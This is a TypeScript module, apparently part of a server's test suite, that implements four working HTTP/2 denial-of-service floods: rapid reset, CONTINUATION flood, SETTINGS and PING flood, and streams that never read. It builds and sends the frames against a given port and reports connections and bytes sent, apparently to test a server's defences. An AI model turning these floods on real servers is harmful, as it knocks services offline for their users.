import { once } from "node:events";
import { FrameConnection } from "../../test/helpers/http2-frames/frame-connection.ts";
import { headers, type FieldList } from "../../test/helpers/http2-frames/fields.ts";
import { frame, ping, rstStream, settings, TYPE } from "../../test/helpers/http2-frames/frames.ts";

/** The kinds of attacks. */
export const ATTACKS = [
  "rapid reset",
  "CONTINUATION flood",
  "SETTINGS and PING flood",
  "streams that read nothing",
] as const;

export type Attack = (typeof ATTACKS)[number];

export interface AttackTask {
  readonly port: number;
  readonly attack: Attack;
  readonly seconds: number;
}

/** The work of an attacker. */
export interface AttackReport {
  /** Connections that it opened: one after the other, as the server ends them. */
  readonly connections: number;
  /** Bytes of frames that it sent. */
  readonly sentBytes: number;
}

/** Connections of an attacker at a time. */
const CONNECTIONS = 2;

/** Connections and streams of each for readers that read nothing. */
const READERS = 8;
const STREAMS = 125;

/** Frames in one write. */
const BATCH = 100;

const CANCEL = 8;

const GET: FieldList = [
  [":method", "GET"],
  [":scheme", "https"],
  [":authority", "localhost"],
  [":path", "/"],
];
const GET_LARGE: FieldList = [...GET.slice(0, 3), [":path", "/large"]];

/** Attacks a server over HTTP/2 with TLS. Reports when the time is over. */
export async function attackHttp2({ port, attack, seconds }: AttackTask): Promise<AttackReport> {
  const endMs = performance.now() + seconds * 1000;
  const report = { connections: 0, sentBytes: 0 };
  const isOver = (): boolean => performance.now() > endMs;
  const count = attack === "streams that read nothing" ? READERS : CONNECTIONS;
  const run = async (): Promise<void> => {
    while (!isOver()) {
      // The server may refuse a connection, or end it before its SETTINGS.
      const connection = await FrameConnection.open(port, { secure: true }).catch(() => null);
      if (connection === null) continue;
      report.connections++;
      report.sentBytes += await flood(connection, { batches: BATCHES[attack](), isOver });
      connection.destroy();
    }
  };
  await Promise.all(Array.from({ length: count }, run));
  return report;
}

/** Writes until the server ends the connection, which a GOAWAY frame announces, or the time is over. Returns the number of bytes. */
async function flood(
  connection: FrameConnection,
  { batches, isOver }: { batches: Iterator<Buffer, void>; isOver: () => boolean },
): Promise<number> {
  const { socket } = connection;
  let sentBytes = 0;
  while (!connection.closed && !isOver()) {
    const batch = batches.next();
    if (batch.done === true) {
      await Promise.race([connection.change(), new Promise((resolve) => setTimeout(resolve, 100))]);
    } else {
      sentBytes += batch.value.length;
      if (!socket.write(batch.value)) {
        await Promise.race([
          once(socket, "drain").catch(ignore),
          once(socket, "close").catch(ignore),
        ]);
      }
    }
    if (connection.goaway !== null) break;
    // Half a million answers would fill the memory.
    connection.frames.length = 0;
    await new Promise((resolve) => setImmediate(resolve));
  }
  return sentBytes;
}

const BATCHES: Readonly<Record<Attack, () => Iterator<Buffer, void>>> = {
  *"rapid reset"() {
    for (let first = 1; first < 2 ** 30; first += 2 * BATCH) {
      const frames: Buffer[] = [];
      for (let stream = first; stream < first + 2 * BATCH; stream += 2) {
        frames.push(headers(stream, GET, { end: true }), rstStream(stream, CANCEL));
      }
      yield Buffer.concat(frames);
    }
  },
  *"CONTINUATION flood"() {
    yield headers(1, GET, { isComplete: false });
    const field = Buffer.concat([
      Buffer.of(0, 3),
      Buffer.from("x-a"),
      Buffer.of(100),
      Buffer.alloc(100, "a"),
    ]);
    for (;;) yield repeat(frame(TYPE.continuation, 0, 1, field));
  },
  *"SETTINGS and PING flood"() {
    for (;;) yield repeat(Buffer.concat([settings(), ping()]));
  },
  *"streams that read nothing"() {
    // The window of the connection stays closed: this client opens none.
    for (let stream = 1; stream < 2 * STREAMS; stream += 2) {
      yield headers(stream, GET_LARGE, { end: true });
    }
  },
};

function repeat(bytes: Buffer): Buffer {
  return Buffer.concat(Array.from({ length: BATCH }, () => bytes));
}

function ignore(): void {}
